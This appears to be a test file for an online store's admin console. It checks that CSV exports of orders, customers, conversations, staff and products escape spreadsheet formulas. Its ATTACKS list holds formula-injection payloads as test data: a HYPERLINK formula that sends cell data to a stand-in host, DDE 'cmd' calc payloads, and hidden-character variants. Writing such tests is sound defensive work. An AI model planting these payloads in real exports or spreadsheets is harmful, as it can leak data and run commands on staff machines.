// The lists' "Exportar" buttons (docs/product/console.md#exports-of-the-lists): whatever a shopper typed into a name,
// an address or a message reaches the staff's spreadsheet as text, never as a formula — "=", "+", "-", "@", a tab or
// a carriage return first, also behind a zero-width space, a bidi mark or in full-width form — like the server's
// reports. And no list is left with react-admin's own exporter, which escapes nothing.
import { readFileSync, readdirSync, statSync } from "node:fs";
import path from "node:path";
import { fireEvent, render, screen, waitFor } from "@testing-library/react";
import { parse } from "csv-parse/sync";
import { AdminContext, ResourceContextProvider, testDataProvider } from "react-admin";
import polyglotI18nProvider from "ra-i18n-polyglot";
import type { ReactElement } from "react";
import { ptMessages } from "../../console/i18n/pt.ts";
import { OrderList } from "../../console/orders/order-list.tsx";
import { CustomerList } from "../../console/customers/customer-list.tsx";
import { ConversationList } from "../../console/conversations/conversation-list.tsx";
import { StaffList } from "../../console/staff/staff-views.tsx";
import { ProductList } from "../../console/products/product-list.tsx";
import type { AdminCustomer } from "../../server/schemas/admin-customers.ts";
import type { AdminConversation } from "../../server/schemas/admin-conversations.ts";
import type { AdminStaff } from "../../server/schemas/admin-staff.ts";
import type { AdminProduct } from "../../server/schemas/admin-products.ts";
import { staffOrder } from "./order-fixtures.ts";

const i18nProvider = polyglotI18nProvider(() => ptMessages, "pt");
const WAIT = { timeout: 10_000 };

/** What the audit typed, and what else starts a formula once a spreadsheet has read it. */
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&E2,"Mallory")',
  "=cmd|' /C calc'!A0",
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '\u200b=HYPERLINK("http://evil.example")',
  "\u202e\u200d+1+1",
  "\ufeff@SUM(1)",
  "\uff1d1+1",
  " \u00a0\u2060-1+1",
];

/**
 * Whether a spreadsheet would run the cell, judged here on its own (not with the rule under test): its first
 * character that shows, after NFKC and without format characters and spaces, or a tab or CR as the very first.
 */
const runnable = (cell: string) =>
  /^[\t\r]/.test(cell) ||
  /^[=+\-@\u2212]/.test(
    cell
      .normalize("NFKC")
      .replace(/\p{Cf}/gu, "")
      .replace(/^\s+/, ""),
  );

/** The blob's text as the bytes say it (jsdom's Blob is read through its FileReader). */
const readText = (blob: Blob) =>
  new Promise<string>((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(new TextDecoder("utf-8", { ignoreBOM: true }).decode(reader.result as ArrayBuffer));
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(blob);
  });

/** The names the browser was told to save the exports under, in order. */
const savedNames: string[] = [];

/** Clicks "Exportar" and answers the CSV the browser was handed to save, as rows of cells. */
async function exported(list: ReactElement, resource: string, records: object[], extra: object = {}): Promise<string[][]> {
  const saved: Blob[] = [];
  const createObjectURL = vi.fn((blob: Blob) => (saved.push(blob), "blob:export"));
  vi.stubGlobal("URL", Object.assign(URL, { createObjectURL, revokeObjectURL: () => undefined }));
  const click = vi.spyOn(HTMLAnchorElement.prototype, "click").mockImplementation(function (this: HTMLAnchorElement) {
    savedNames.push(this.download);
  });
  const dataProvider = {
    ...testDataProvider({ getList: (async () => ({ data: records, total: records.length })) as never }),
    ...extra,
  };
  render(
    <AdminContext dataProvider={dataProvider} i18nProvider={i18nProvider}>
      <ResourceContextProvider value={resource}>{list}</ResourceContextProvider>
    </AdminContext>,
  );
  const button = await screen.findByRole("button", { name: "Exportar" }, WAIT);
  await waitFor(() => expect(button).toBeEnabled(), WAIT);
  fireEvent.click(button);
  await waitFor(() => expect(saved).toHaveLength(1), WAIT);
  click.mockRestore();
  vi.unstubAllGlobals();
  const text = (await readText(saved[0]!)).replace(/^\uFEFF/, "");
  // Ours are `;`-separated (Portuguese spreadsheets); react-admin's default writes `,`.
  const delimiter = text.split(/\r?\n/)[0]!.includes(";") ? ";" : ",";
  return parse(text, { delimiter, relax_column_count: true });
}

/** Every cell is safe; and each attack string the records carried is there, behind its apostrophe. */
function expectNoFormula(rows: string[][]) {
  expect(rows.length).toBeGreaterThan(1);
  const cells = rows.slice(1).flat();
  expect(cells.filter(runnable)).toEqual([]);
  for (const attack of ATTACKS) expect(cells, JSON.stringify(attack)).toContain(`'${attack}`);
}

describe("the lists' Exportar buttons write no formula", () => {
  it("orders: the customer's name, the delivery address and the lines", async () => {
    const orders = ATTACKS.map((attack, i) =>
      staffOrder({
        id: `order${i}`,
        shortId: `00000${i}`,
        customer: { id: `c${i}`, name: attack, email: attack },
        address: {
          firstName: attack,
          lastName: attack,
          email: attack,
          street: attack,
          city: attack,
          state: attack,
          zipcode: attack,
          country: attack,
          phone: attack,
          neighborhood: attack,
          landmark: attack,
        },
        delivery: { kind: "delivery", name: attack, fee: 5000, eta: attack },
        paymentReference: attack,
        coupon: { code: attack, discount: 100 },
        lines: [{ productId: null, name: attack, image: "", price: 1, size: attack, quantity: 1, held: false, short: false }],
      }),
    );
    const rows = await exported(<OrderList />, "orders", orders);
    expectNoFormula(rows);
    // The header is the console's Portuguese; amounts are numbers with a decimal comma.
    expect(rows[0]).toContain("Cliente");
    expect(rows[0]).toContain("Endereço");
    expect(rows[1]).toContain("30000");
    // "pedido" everywhere but SPEC's own strings (docs/product/overview.md): "pedidos-2026-11-28.csv".
    expect(savedNames.at(-1)).toMatch(/^pedidos-\d{4}-\d{2}-\d{2}\.csv$/);
  });

  it("customers", async () => {
    const customers: AdminCustomer[] = ATTACKS.map((attack, i) => ({
      id: `c${i}`,
      name: attack,
      email: attack,
      phone: attack,
      active: true,
      orderCount: 2,
      totalSpent: 1250.5,
      createdAt: "2026-11-01T10:00:00.000Z",
    }));
    const rows = await exported(<CustomerList />, "customers", customers);
    expectNoFormula(rows);
    expect(rows[1]).toEqual(expect.arrayContaining(["1250,5", "Sim", "01/11/2026 11:00"]));
  });

  it("conversations: the customer and the last message", async () => {
    const conversations: AdminConversation[] = ATTACKS.map((attack, i) => ({
      id: `o${i}`,
      orderId: `o${i}`,
      shortId: `00000${i}`,
      customer: { id: `u${i}`, name: attack, email: attack },
      status: "Aguardando Pagamento",
      totalAmount: 35000,
      lastMessageAt: "2026-11-24T10:00:00.000Z",
      lastMessage: { sender: "client", text: attack, type: null },
      unread: 1,
      messageCount: 1,
      assignee: { id: "s1", name: attack },
    }));
    expectNoFormula(await exported(<ConversationList />, "conversations", conversations));
  });

  it("staff", async () => {
    const staff: AdminStaff[] = ATTACKS.map((attack, i) => ({
      id: `s${i}`,
      name: attack,
      email: attack,
      role: "support",
      active: true,
      createdAt: "2026-11-01T10:00:00.000Z",
    }));
    expectNoFormula(await exported(<StaffList />, "staff", staff));
  });

  it("products", async () => {
    const products: AdminProduct[] = ATTACKS.map((attack, i) => ({
      id: `p${i}`,
      name: attack,
      description: attack,
      price: 1000,
      sizes: [attack],
      category: attack,
      subCategory: attack,
      bestseller: false,
      hidden: false,
      soldOut: false,
      stock: {},
      images: [],
      createdAt: "2026-11-01T10:00:00.000Z",
      updatedAt: "2026-11-01T10:00:00.000Z",
    }));
    const taxonomy = { getTaxonomy: async () => [] };
    expectNoFormula(await exported(<ProductList />, "products", products, taxonomy));
  });
});

describe("every list of the console", () => {
  // jsdom gives import.meta.url an http scheme: the suite runs from the repository root.
  const sources = (dir: string): string[] =>
    readdirSync(dir).flatMap((f) => {
      const full = path.join(dir, f);
      return statSync(full).isDirectory() ? sources(full) : /\.tsx$/.test(f) ? [full] : [];
    });

  /** Each `<List …>` opening tag of the source, read to its own `>` (props may hold JSX such as `actions={<Actions />}`). */
  const listTags = (source: string): string[] =>
    [...source.matchAll(/<List\b/g)].map((m) => {
      let depth = 0;
      for (let i = m.index; i < source.length; i++) {
        const c = source[i];
        if (c === "{") depth++;
        else if (c === "}") depth--;
        else if (c === ">" && depth === 0) return source.slice(m.index, i + 1);
      }
      return source.slice(m.index);
    });

  it("names its exporter (one of console/lib/csv-export.ts) or has none: react-admin's default escapes nothing", () => {
    // react-admin's List only (MUI's List, e.g. the dashboard's latest orders, is a plain list of rows).
    const fromReactAdmin = (source: string) => /import\s*{[^}]*\bList\b[^}]*}\s*from\s*"react-admin"/.test(source);
    const lists = sources(path.resolve(process.cwd(), "console")).flatMap((file) => {
      const source = readFileSync(file, "utf8");
      return fromReactAdmin(source) ? listTags(source).map((tag) => ({ file: path.relative(process.cwd(), file), tag })) : [];
    });
    expect(lists.length).toBeGreaterThanOrEqual(10);
    const withDefault = lists.filter((l) => !/\bexporter=\{/.test(l.tag)).map((l) => l.file);
    expect(withDefault).toEqual([]);
  });
});
